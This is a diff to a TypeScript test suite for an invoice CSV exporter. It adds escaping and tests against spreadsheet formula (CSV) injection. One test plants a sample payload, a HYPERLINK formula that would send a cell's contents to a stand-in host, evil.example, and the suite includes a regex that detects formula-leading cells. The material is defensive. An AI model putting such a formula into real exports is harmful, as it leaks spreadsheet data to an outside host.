@@ -81,7 +81,7 @@ describe("invoice CSV export", () => {
         `line,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,1,,` +
           `" 作業, ""緊急""\r\n対応 ",monthly,10,10,0,80000,80000,,29(1),${tail}`,
         `line,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,2,option-backup,` +
-          `"=SUM(A1)\ttab;semi\rCR only\nLF only",monthly,10,10,1,10000,10000,,29(1),${tail}`,
+          `"'=SUM(A1)\ttab;semi\rCR only\nLF only",monthly,10,10,1,10000,10000,,29(1),${tail}`,
         `tax,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,,,10%対象,,10,10,,,90000,9000,34,${tail}`,
         `line,,draft,regular,,${draftHead},株式会社サンプル商事 第1営業部,C-2026-000002,1,monthly-standard,` +
           `運用支援サービス スタンダード 月額,monthly,10,10,1,80000,80000,,29(1),${draftTail}`,
@@ -92,9 +92,30 @@ describe("invoice CSV export", () => {
   });
 
   it("quotes any text by RFC 4180 (a field is quoted iff it has a comma, quote, CR or LF; quotes doubled)", () => {
-    const rfc4180 = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);
+    const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
+    const rfc4180 = (raw: string) => {
+      const s = safe(raw);
+      return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
+    };
     const text = fc.string({
-      unit: fc.constantFrom('"', ",", "\r", "\n", " ", "\t", ";", "=", "-", "a", "漢", "ｶ", "\uFEFF"),
+      unit: fc.constantFrom(
+        '"',
+        ",",
+        "\r",
+        "\n",
+        " ",
+        "\t",
+        ";",
+        "=",
+        "+",
+        "-",
+        "@",
+        "'",
+        "a",
+        "漢",
+        "ｶ",
+        "\uFEFF",
+      ),
       maxLength: 12,
     });
     const csvWith = (description: string, name: string) => {
@@ -113,5 +134,27 @@ describe("invoice CSV export", () => {
         );
       }),
     );
+  });
+
+  it("writes no cell a spreadsheet would run as a formula (OWASP CSV injection), and leaves amounts as numbers", () => {
+    const doc = sampleInvoice(0, 4);
+    doc.recipient.name = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")';
+    doc.lines[0] = { ...doc.lines[0]!, description: "+81 3 1234 5678" };
+    doc.lines[1] = { ...doc.lines[1]!, description: "@SUM(1+1)" };
+    doc.lines[2] = { ...doc.lines[2]!, description: "\t=1+2", amount: -5000, unitPrice: -5000 };
+    doc.lines[3] = { ...doc.lines[3]!, description: "-2+3" };
+    const rows = parse(invoicesCsv([doc]).slice(1));
+    const col = (name: string) => rows[0]!.indexOf(name);
+    const lines = rows.slice(1).filter((r) => r[col("record_type")] === "line");
+    expect(lines[0]![col("recipient_name")]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"詳細")`);
+    expect(lines.map((r) => r[col("description")])).toEqual([
+      "'+81 3 1234 5678",
+      "'@SUM(1+1)",
+      "'\t=1+2",
+      "'-2+3",
+    ]);
+    expect(lines[2]![col("amount")]).toBe("-5000");
+    // No cell of the whole file starts with a formula character.
+    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
   });
 });
